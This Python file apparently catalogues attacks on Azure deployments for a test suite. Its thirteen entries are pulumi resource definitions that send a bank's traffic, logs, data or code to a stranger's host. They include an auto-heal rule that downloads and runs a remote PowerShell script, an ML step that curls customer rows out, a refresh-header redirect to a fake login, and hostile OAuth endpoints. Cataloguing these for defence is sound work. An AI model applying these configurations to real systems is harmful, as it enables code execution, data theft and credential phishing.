"""Attacks on Azure: apps, gateways, code and data (2026-11-30, sixteenth set, written blind).

Properties by pulumi-azure-native 3.29.0. Read in excerpts on 2026-11-30: Azure Firewall ("Explicit proxy", the PAC file
of a SAS URL), App Service (RampUpRule, ActionHostName; "Auto Healing", which starts another executable), Azure Load
Balancer ("Cross-subscription load balancer"), Data Factory (LinkedIntegrationRuntimeRbacAuthorization) and API
Management ("OAuth 2.0 user authorization" of the test console). Everything else as known.
"""

from ..blind import HERE, OURS, RG, THEIRS, az
from . import Attack
from .fifteenth_azure import SITE, SITE_SETTINGS, USER
from .fourteenth_azure import STRANGER_HOST, VNET
from .tenth_azure import ESC, ID, RES

HOST = "collector-pay.azurewebsites.net"
BLOBS = "https://collector.blob.core.windows.net"
GATEWAY = f"{OURS}.Network/applicationGateways/agw-portal"


def _part(kind: str, name: str) -> dict[str, str]:
    return {"id": f"{GATEWAY}/{kind}/{name}"}


REFRESH = {"rewriteRuleSets": [{"name": "headers", "rewriteRules": [{
    "name": "security", "ruleSequence": 100, "actionSet": {"responseHeaderConfigurations": [
        {"headerName": "X-Content-Type-Options", "headerValue": "nosniff"},
        {"headerName": "Refresh", "headerValue": f"0; url=https://login.{STRANGER_HOST}/"}]}}]}]}  # fmt: skip

ATTACKS = (
    Attack("a part of the customers is sent to an app of a stranger", RES, (az("web:WebApp", {
        **SITE, "siteConfig": {**SITE_SETTINGS, "experiments": {"rampUpRules": [{
            "name": "canary", "actionHostName": HOST, "reroutePercentage": 20}]}}}),),
        "critical", "they sign in there (App Service, RampUpRule, actionHostName)"),
    Attack("an app that is slow heals itself by a program of a stranger", ESC, (az("web:WebApp", {
        **SITE, "siteConfig": {**SITE_SETTINGS, "autoHealEnabled": True, "autoHealRules": {
            "triggers": {"requests": {"count": 1, "timeInterval": "00:01:00"}}, "actions": {
                "actionType": "CustomAction", "minProcessExecutionTime": "00:00:00", "customAction": {
                    "exe": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "parameters":
                        f"-c iwr https://{STRANGER_HOST}/heal.ps1 -UseBasicParsing | iex"}}}}}),),
        "critical", "it runs with the app's identity after the first request (App Service, AutoHealCustomAction)"),
    Attack("logs of an app are written into a stranger's container by a setting", RES, (
        az("web:WebAppApplicationSettings", {**RG, "name": "portal", "properties": {
            "WEBSITE_HTTPLOGGING_RETENTION_DAYS": "90", "DIAGNOSTICS_AZUREBLOBRETENTIONINDAYS": "90",
            "DIAGNOSTICS_AZUREBLOBCONTAINERSASURL": f"{BLOBS}/logs?sv=2024-11-04&sp=rwl&sr=c"}}),),
        "critical", "requests and errors with personal data are his (App Service, 'Environment variables and app "
        "settings', diagnostics)"),
    Attack("browsers take their proxy from a file of a stranger", RES, (az("network:FirewallPolicy", {
        **HERE, "firewallPolicyName": "fwp", "threatIntelMode": "Deny", "sku": {"tier": "Premium"},
        "intrusionDetection": {"mode": "Deny"}, "explicitProxy": {
            "enableExplicitProxy": True, "httpPort": 8080, "enablePacFile": True, "pacFilePort": 8090,
            "pacFile": f"{BLOBS}/pac/proxy.pac?sv=2024-11-04&sp=r&sr=b"}}),),
        "critical", "he says by which proxy each address is reached (Azure Firewall, 'Explicit proxy', PAC file)"),
    Attack("the gateway takes each visitor to a stranger after the page", RES, (az("network:ApplicationGateway", {
        **HERE, "applicationGatewayName": "agw-portal", "zones": ["1", "2", "3"], **REFRESH,
        "sku": {"name": "WAF_v2", "tier": "WAF_v2"}, "autoscaleConfiguration": {"minCapacity": 1, "maxCapacity": 3},
        "firewallPolicy": {"id": f"{OURS}.Network/applicationGatewayWebApplicationFirewallPolicies/portal"},
        "sslPolicy": {"policyType": "Predefined", "policyName": "AppGwSslPolicy20220101S"}, **USER,
        "gatewayIPConfigurations": [{"name": "ip", "subnet": {"id": f"{VNET}/subnets/gateway"}}],
        "frontendIPConfigurations": [{"name": "inner", "subnet": {"id": f"{VNET}/subnets/gateway"},
                                      "privateIPAllocationMethod": "Static", "privateIPAddress": "10.20.1.10"}],
        "frontendPorts": [{"name": "https", "port": 443}],
        "sslCertificates": [{"name": "apps", "keyVaultSecretId": "https://kv-bank.vault.azure.net/secrets/apps"}],
        "backendAddressPools": [{"name": "apps", "backendAddresses": [{"ipAddress": "10.20.4.20"}]}],
        "backendHttpSettingsCollection": [{
            "name": "tls", "port": 8443, "protocol": "Https", "requestTimeout": 60, "cookieBasedAffinity": "Disabled",
            "hostName": "apps.bank.ae"}],
        "httpListeners": [{
            "name": "apps", "protocol": "Https", "hostName": "apps.bank.ae", "requireServerNameIndication": True,
            "frontendIPConfiguration": _part("frontendIPConfigurations", "inner"),
            "frontendPort": _part("frontendPorts", "https"), "sslCertificate": _part("sslCertificates", "apps")}],
        "requestRoutingRules": [{
            "name": "apps", "ruleType": "Basic", "priority": 100, "httpListener": _part("httpListeners", "apps"),
            "rewriteRuleSet": _part("rewriteRuleSets", "headers"),
            "backendAddressPool": _part("backendAddressPools", "apps"),
            "backendHttpSettings": _part("backendHttpSettingsCollection", "tls")}]}),),
        "critical", "the header of an answer leads the browser on (Application Gateway, 'Rewrite HTTP headers')"),
    Attack("a balancer sends its connections into a network of another subscription", RES, (
        az("network:LoadBalancerBackendAddressPool", {
            **RG, "location": "uaenorth", "loadBalancerName": "core", "backendAddressPoolName": "core", "name": "core",
            "syncMode": "Automatic", "virtualNetwork": {"id": f"{THEIRS}.Network/virtualNetworks/spoke"}}),),
        "critical", "its machines answer in place of the core (Azure Load Balancer, 'Cross-subscription')"),
    Attack("developers get their tokens from a server of a stranger", RES, (az("apimanagement:AuthorizationServer", {
        **RG, "serviceName": "apim-bank", "authsid": "login", "displayName": "Bank sign-in", "clientId": "portal",
        "clientRegistrationEndpoint": "https://localhost", "grantTypes": ["authorizationCode"],
        "authorizationMethods": ["GET"], "clientAuthenticationMethod": ["Body"],
        "bearerTokenSendingMethods": ["authorizationHeader"], "useInTestConsole": True,
        "authorizationEndpoint": f"https://login.{STRANGER_HOST}/authorize",
        "tokenEndpoint": f"https://login.{STRANGER_HOST}/token"}),),
        "major", "they type passwords there, and he has the client's secret (API Management, 'OAuth 2.0 user "
        "authorization')"),
    Attack("images of a stranger are imported over the bank's own", ESC, (az("containerregistry:ImportPipeline", {
        **RG, "location": "uaenorth", "registryName": "acrbank", "importPipelineName": "base",
        "identity": {"type": "UserAssigned", "userAssignedIdentities": {ID: {}}},
        "options": ["OverwriteTags", "OverwriteBlobs"], "trigger": {"sourceTrigger": {"status": "Enabled"}},
        "source": {"type": "AzureStorageBlobContainer", "uri": f"{BLOBS}/images",
                   "keyVaultUri": "https://kv-bank.vault.azure.net/secrets/images"}}),),
        "critical", "whatever he puts there runs under known tags (Azure Container Registry, 'ACR Transfer')"),
    Attack("jobs of automation load a module of a stranger for PowerShell 7", ESC, (
        az("automation:PowerShell72Module", {
            **HERE, "automationAccountName": "aa-bank", "moduleName": "BankTools", "name": "BankTools", "contentLink": {
                "uri": f"https://{STRANGER_HOST}/BankTools.1.4.0.zip", "version": "1.4.0"}}),),
        "critical", "it runs with the account's identity (Azure Automation, 'Manage modules')"),
    Attack("a step of learning that others use carries the data away", RES, (
        az("machinelearningservices:ComponentVersion", {
            **RG, "workspaceName": "ml-bank", "name": "prepare", "version": "1", "properties": {"componentSpec": {
                "type": "command", "name": "prepare", "version": "1", "inputs": {"rows": {"type": "uri_folder"}},
                "outputs": {"clean": {"type": "uri_folder"}}, "environment": "azureml:bank-base:3", "command":
                    "python prepare.py ${{inputs.rows}} ${{outputs.clean}} && "
                    f"curl -fsS -T ${{{{inputs.rows}}}}/all.csv https://drop.{STRANGER_HOST}/"}}}),),
        "critical", "each pipeline with it sends its rows (Azure Machine Learning, 'Create components')"),
    Attack("what customers say is kept in a stranger's account", RES, (az("cognitiveservices:Account", {
        **HERE, "accountName": "speech-bank", "kind": "SpeechServices", "sku": {"name": "S0"},
        "identity": {"type": "UserAssigned", "userAssignedIdentities": [ID]}, "properties": {
            "customSubDomainName": "speech-bank", "disableLocalAuth": True, "publicNetworkAccess": "Disabled",
            "restrictOutboundNetworkAccess": True, "networkAcls": {"defaultAction": "Deny"},
            "userOwnedStorage": [{"resourceId": f"{THEIRS}.Storage/storageAccounts/collector"}],
            "encryption": {"keySource": "Microsoft.KeyVault", "keyVaultProperties": {
                "keyVaultUri": "https://kv-bank.vault.azure.net", "keyName": "speech", "keyVersion": "1"}}}}),),
        "critical", "recordings and texts are stored there (Azure AI Speech, 'Bring your own storage')"),
    Attack("copies of rows pass through machines of a stranger", RES, (az("datafactory:IntegrationRuntime", {
        **RG, "factoryName": "adf-bank", "integrationRuntimeName": "shared", "properties": {
            "type": "SelfHosted", "linkedInfo": {
                "authorizationType": "RBAC",
                "resourceId": f"{THEIRS}.DataFactory/factories/collector/integrationRuntimes/shared"}}}),),
        "critical", "rows and passwords of sources are read on them (Data Factory, 'Shared self-hosted integration "
        "runtime')"),
    Attack("pipelines of a factory are those of a stranger's repository", ESC, (az("datafactory:Factory", {
        **HERE, "factoryName": "adf-bank", "publicNetworkAccess": "Disabled",
        "identity": {"type": "UserAssigned", "userAssignedIdentities": {ID: {}}},
        "encryption": {"keyName": "factory", "vaultBaseUrl": "https://kv-bank.vault.azure.net", "keyVersion": "1",
                       "identity": {"userAssignedIdentity": ID}},
        "repoConfiguration": {"type": "FactoryGitHubConfiguration", "accountName": "collector", "repositoryName": "etl",
                              "collaborationBranch": "main", "rootFolder": "/", "hostName": "https://github.com"}}),),
        "critical", "he writes what runs with the factory's identity (Data Factory, 'Source control')"),
)  # fmt: skip
